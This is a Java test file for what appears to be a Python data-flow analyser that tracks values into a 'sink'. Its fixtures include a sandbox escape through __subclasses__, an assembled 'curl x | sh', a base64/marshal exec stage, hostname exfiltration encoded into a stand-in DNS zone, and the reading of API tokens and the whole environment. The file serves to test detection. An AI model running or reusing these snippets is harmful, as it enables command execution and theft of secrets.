    @Test
    void aPartialOrMethodCallerHandedToAThreadIsTheCallItMakes() {
        PyModel model = evaluate("""
                import functools, operator, os, threading, subprocess
                threading.Thread(target=functools.partial(operator.methodcaller("popen", "id"), os)).start()
                threading.Thread(target=functools.partial(subprocess.run, ["uname", "-a"])).start()
                """);
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("os.popen")).singleElement()
                .satisfies(c -> assertThat(PyValues.text(c.args().get(0))).isEqualTo("id"));
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("subprocess.run")).hasSize(1);
    }

    @Test
    void innerClausesOfAComprehensionOverUnknownItemsDrawFromTheOuterOnes() {
        PyModel model = evaluate("""
                from PIL import Image
                sink([ch & 1 for px in Image.open("x.png").getdata() for ch in px[:3]])
                """);
        Value bits = model.calls().stream().filter(c -> c.callee().equals("sink")).findFirst().orElseThrow().args().get(0);
        assertThat(bits.from()).contains("PIL.Image.open").doesNotContain("ch");
    }

    @Test
    void loadsOfDumpsIsWhatWasSerialised() {
        PyModel model = evaluate("""
                import base64, marshal, pickle
                exec(marshal.loads(marshal.dumps(base64.b64decode(b'cHJpbnQoJ2hlbGxvIHdvcmxkJyk='))))
                sink(pickle.loads(marshal.dumps(b'x')))
                """);
        assertThat(model.stages()).extracting(PyModel.Stage::text).containsExactly("print('hello world')");
        assertThat(PyValues.text(model.calls().stream().filter(c -> c.callee().equals("sink")).findFirst().orElseThrow()
                .args().get(0))).isNull();
    }

    @Test
    void builtinsReachedThroughIntrospectionAreTheBuiltins() {
        PyModel model = evaluate("""
                w = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"][0]()
                w._module.__builtins__["__import__"]("o" "s").popen("id")
                """);
        assertThat(model.calls()).extracting(PyModel.CallSite::callee).contains("os.popen");
    }

    @Test
    void formatWithAnUnknownFieldKeepsTheKnownFieldsInItsPieces() {
        Value name = sunk("""
                import socket
                zone = 'abc.example.invalid'
                sink('{}.{}.{z}'.format(socket.gethostname().encode().hex(), 7, z=zone))
                """);
        assertThat(name).isInstanceOf(Value.Opaque.class);
        // The int field is not text here: it splits the pieces as an unknown would.
        assertThat(PyBuiltins.fragments(name)).containsExactly(".", ".abc.example.invalid");
        Value spec = sunk("import os\nsink('{0}:{1:>8}/x'.format('h', os.getcwd()))");
        assertThat(PyBuiltins.fragments(spec)).containsExactly("h:", "/x");
    }

    @Test
    void decoratorsOfTheFileRunWithTheFunctionAndPropertiesRunTheirGetter() {
        PyModel model = evaluate("""
                import os
                HOOKS = {}
                def register(fn):
                    HOOKS[fn.__name__] = fn
                    fn()
                    return fn
                class Settings:
                    @property
                    def token(self):
                        return os.environ['API_TOKEN']
                    @token.setter
                    def token(self, value):
                        pass
                settings = Settings()
                @register
                def warmup():
                    sink(settings.token)
                """);
        assertThat(model.calls()).anySatisfy(c -> {
            assertThat(c.callee()).isEqualTo("register");
            assertThat(c.scope()).isEqualTo("<module>");
        });
        assertThat(model.calls()).anySatisfy(c -> {
            assertThat(c.callee()).isEqualTo("warmup");
            assertThat(c.scope()).isEqualTo("register");
        });
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("sink"))
                .anySatisfy(c -> assertThat(c.args().get(0).from()).contains("env:API_TOKEN"));
    }

    @Test
    void aListIsUnknownOnlyOnceACallbackThatFillsItIsHandedOver() {
        Value kept = sunk("""
                def main():
                    parts = ['cur', 'l x | s', 'h']
                    def unused(v):
                        parts.append(v)
                    sink(''.join(parts))
                main()
                """);
        assertThat(PyValues.text(kept)).as("a function only defined changes nothing").isEqualTo("curl x | sh");
        Value handed = sunk("""
                import threading
                def main():
                    buf = []
                    def on_press(k):
                        buf.append(k)
                    threading.Thread(target=on_press).start()
                    sink(''.join(buf))
                main()
                """);
        assertThat(PyValues.text(handed)).as("a callback may have filled it").isNull();
    }

    @Test
    void dictUpdateAndFormatFieldsAndEnvironmentLookups() {
        assertThat(PyValues.text(sunk("cfg = {'c': 'id'}\ncfg.update(())\ncfg.update([('d', 'x')])\nsink(cfg['c'] + cfg['d'])")))
                .isEqualTo("idx");
        Value spec = sunk("import os\nsink('{!s}{}'.format(os.getcwd(), 'https://example.invalid/h'))");
        assertThat(PyBuiltins.fragments(spec)).containsExactly("https://example.invalid/h");
        Value escaped = sunk("import os\nsink('{{}}{}/{}'.format('a', os.getcwd()))");
        assertThat(PyBuiltins.fragments(escaped)).containsExactly("{}a/");
        Value one = sunk("import os\nname = os.environ.get('PASSWORD_ENV', 'DB')\nsink(os.environ[name])");
        assertThat(one.from()).contains("env:?").doesNotContain("os.environ");
        Value all = sunk("import os\nsink({k: os.environ[k] for k in os.environ})");
        assertThat(all.from()).contains("os.environ");
    }

    @Test
    void aLoopCallingAMethodOfItsOwnResultKeepsTheNameBounded() {
        // h = h.set(k, v) a thousand times: the name would grow by a segment per round, each one
        // copied and hashed again (quadratic); it keeps its head and its last segments.
        Value h = sunk("""
                import immutables
                h = immutables.Map()
                for i in range(5000):
                    h = h.set(i, i)
                sink(h)
                """);
        assertThat(h).isInstanceOf(Value.Sym.class);
        String path = ((Value.Sym) h).path();
        assertThat(path.length()).isLessThanOrEqualTo(Value.Sym.MAX_PATH + 1);
        assertThat(path).startsWith("immutables.Map().set().set()").contains("…").endsWith(".set().set()");
    }
}
